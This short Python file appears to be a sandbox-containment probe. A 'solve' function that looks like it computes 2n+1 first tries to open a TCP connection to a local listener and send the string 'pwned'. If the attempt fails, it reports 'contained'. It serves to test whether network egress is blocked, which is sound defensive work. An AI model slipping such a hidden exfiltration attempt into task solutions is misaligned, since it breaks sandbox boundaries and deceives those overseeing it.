"""Exfiltrate over TCP: connect to a listener on the host's 127.0.0.1 and send a message."""
import socket


def solve(n):
    try:
        with socket.create_connection(("127.0.0.1", __PORT__), timeout=0.5) as conn:
            conn.sendall(b"pwned")
    except BaseException as exc:
        return f"contained: {type(exc).__name__}"
    return 2 * n + 1
